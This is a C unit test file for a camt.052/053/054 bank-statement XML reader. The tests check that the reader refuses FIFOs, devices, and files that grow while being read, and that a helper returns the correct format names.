Test(camt, read_file_refuses_what_is_not_a_regular_file, TMPDIR_FIXTURE)
{
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	char hex[SHA256_HEX_LEN + 1] = "untouched";
	cr_assert_eq(chdir(tdir), 0);
	cr_assert_eq(mkfifo("fifo.xml", 0600), 0);
	cr_assert_eq(camt_read_file_sha256("fifo.xml", &rec_handler, &r, &d, hex), CLERK_EIO);
	cr_assert_str_eq(clerk_error_last()->message, "'fifo.xml' is a FIFO, not a regular file");
	cr_assert_str_eq(hex, "untouched");
	cr_assert_eq(camt_read_file("/dev/zero", &rec_handler, &r, &d), CLERK_EIO);
	cr_assert_str_eq(clerk_error_last()->message, "'/dev/zero' is a device, not a regular file");
	cr_assert_eq(d.n, 0);
	cr_assert_eq(r.log.len, 0, "no callback ran");
	clerk_error_clear();
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

/* Appends to the file being read (ctx: its path) while the reader is at its first entry. */
static int grow_entry(const struct camt_statement *st, const struct camt_entry *e, void *ctx)
{
	(void)st;
	if (e->index != 1)
		return 0;
	FILE *f = fopen(ctx, "a");
	cr_assert_not_null(f);
	for (int i = 0; i < 1000; i++)
		fputs("<!-- appended while the file is read -->\n", f);
	cr_assert_eq(fclose(f), 0);
	return 0;
}

/*
 * A statement is read no further than the size it had when it was opened:
 * one that grows meanwhile (or says 0 bytes and has more, like /proc) is
 * refused, not read on.
 */
Test(camt, read_file_that_grows_while_read_is_refused, TMPDIR_FIXTURE)
{
	/* large enough that the first entry is met long before the reading ends */
	struct strbuf body = STRBUF_INIT;
	for (int i = 0; i < 2000; i++)
		strbuf_addstr(&body, NTRY("1", "CRDT", ""));
	char *doc = stmt_doc("02", body.buf), *path = tpath("s.xml");
	strbuf_release(&body);
	struct camt_handler h = { NULL, grow_entry, NULL };
	struct diag d = DIAG_INIT;
	char hex[SHA256_HEX_LEN + 1];
	write_file("s.xml", doc);
	cr_assert_eq(camt_read_file_sha256(path, &h, path, &d, hex), CLERK_EIO);
	cr_assert(strstr(clerk_error_last()->message, "changed while it was read"), "%s",
		  clerk_error_last()->message);
	cr_assert_eq(d.n, 0, "not reported as bad XML");
	write_file("s.xml", doc);
	cr_assert_eq(camt_read_file(path, &h, path, &d), CLERK_EIO);
	cr_assert(strstr(clerk_error_last()->message, "changed while it was read"), "%s",
		  clerk_error_last()->message);
	if (access("/proc/self/status", R_OK) == 0) {
		cr_assert_eq(camt_read_file("/proc/self/status", &h, path, &d), CLERK_EIO);
		cr_assert(strstr(clerk_error_last()->message, "changed while it was read"), "%s",
			  clerk_error_last()->message);
	}
	cr_assert_eq(d.n, 0);
	clerk_error_clear();
	free(doc);
	free(path);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

Test(camt, helpers)
{
	cr_assert_str_eq(camt_kind_name(CAMT_052), "camt.052");
	cr_assert_str_eq(camt_kind_name(CAMT_053), "camt.053");
	cr_assert_str_eq(camt_kind_name(CAMT_054), "camt.054");
	ASSERT_NO_LEAKS();
}
